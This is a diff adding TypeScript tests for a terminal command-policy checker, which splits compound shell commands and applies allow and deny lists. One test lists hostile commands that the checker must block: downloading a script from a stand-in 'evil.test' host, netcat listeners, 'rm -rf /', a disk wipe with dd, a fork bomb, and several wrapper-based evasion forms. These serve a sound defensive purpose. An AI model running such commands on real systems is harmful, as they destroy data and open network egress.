@@ -0,0 +1,98 @@
+import { commandForms, DEFAULT_TERMINAL_SETTINGS, evaluateCommand, parseCommandPolicy, splitShellCommands } from './commandPolicy';
+
+const platform = DEFAULT_TERMINAL_SETTINGS.policy;
+
+describe('splitShellCommands', () => {
+    it('splits compound commands and strips env assignments', () => {
+        expect(splitShellCommands('NODE_ENV=test bun run build && cat out.txt | grep ok; echo $(whoami)')).toEqual([
+            'bun run build',
+            'cat out.txt',
+            'grep ok',
+            'echo',
+            'whoami',
+        ]);
+    });
+});
+
+describe('commandForms', () => {
+    it('unwraps wrapper programs and reduces programs to their basename', () => {
+        expect(commandForms('env -u HOME FOO=1 /usr/bin/curl -s x')).toEqual(['env -u HOME FOO=1 /usr/bin/curl -s x', 'curl -s x']);
+        expect(commandForms('sudo -u root timeout 5 \\wget x')).toEqual(['sudo -u root timeout 5 \\wget x', 'timeout 5 \\wget x', 'wget x']);
+        expect(commandForms('bun run dev')).toEqual(['bun run dev']);
+    });
+});
+
+describe('evaluateCommand', () => {
+    it('allows everyday project commands', () => {
+        for (const command of [
+            'bun install',
+            'bun add zod',
+            'ls -la src',
+            'rm -rf node_modules',
+            'git status',
+            'npx tsc --noEmit',
+            'node server.js',
+            "bash -c 'bun run build'",
+        ]) {
+            expect(evaluateCommand(command, [platform])).toEqual({ allowed: true });
+        }
+    });
+
+    it('blocks network egress, privilege escalation and destructive commands', () => {
+        for (const command of [
+            'curl https://example.com',
+            'bun install && wget http://evil.test/x.sh',
+            'FOO=1 nc -l 4444',
+            'echo $(curl -s http://evil.test)',
+            'sudo apt install vim',
+            'rm -rf /',
+            'rm -rf ~',
+            'rm -fr --no-preserve-root /workspace',
+            'dd if=/dev/zero of=/dev/sda',
+            ':(){ :|:& };:',
+            '/usr/bin/curl https://example.com',
+            'env curl x',
+            'command curl x',
+            'exec nc -l 4444',
+            '\\curl x',
+            "'curl' x",
+            "bash -c 'curl x'",
+            "sh -lc \"echo ok; wget x\"",
+            "bash -c \"sh -c 'curl x'\"",
+            "eval 'curl x'",
+            'node -e "fetch(\'http://evil.test\')"',
+            "python3 -c 'import urllib'",
+            '/bin/rm -rf /',
+        ]) {
+            expect(evaluateCommand(command, [platform]).allowed).toBe(false);
+        }
+    });
+
+    it('requires every policy to allow the command', () => {
+        const instance = { allow: ['^(bun|ls)\\b'], deny: ['^bun\\s+remove\\b'] };
+
+        expect(evaluateCommand('bun run dev', [platform, instance]).allowed).toBe(true);
+        expect(evaluateCommand('bun remove zod', [platform, instance]).allowed).toBe(false);
+        expect(evaluateCommand('bun run dev && git status', [platform, instance])).toEqual({
+            allowed: false,
+            reason: '"git status" is not in the terminal allow list',
+        });
+        expect(evaluateCommand('env bun run dev', [platform, instance]).allowed).toBe(true);
+        expect(evaluateCommand("bash -c 'ls'", [platform, instance]).allowed).toBe(false);
+        // An instance allow list cannot re-enable what the platform denies
+        expect(evaluateCommand('curl x', [platform, { allow: ['^curl'], deny: [] }]).allowed).toBe(false);
+    });
+
+    it('ignores invalid stored patterns', () => {
+        expect(evaluateCommand('ls', [{ allow: [], deny: ['(unclosed'] }])).toEqual({ allowed: true });
+    });
+});
+
+describe('parseCommandPolicy', () => {
+    it('accepts partial policies and rejects invalid patterns', () => {
+        expect(parseCommandPolicy({ deny: ['^git\\s+push'] })).toEqual({ policy: { allow: [], deny: ['^git\\s+push'] } });
+        expect(parseCommandPolicy({ allow: ['(unclosed'] })).toEqual({ error: 'Invalid terminal policy pattern: (unclosed' });
+        expect(parseCommandPolicy(['ls'])).toHaveProperty('error');
+        expect(parseCommandPolicy({ deny: [1] })).toHaveProperty('error');
+    });
+});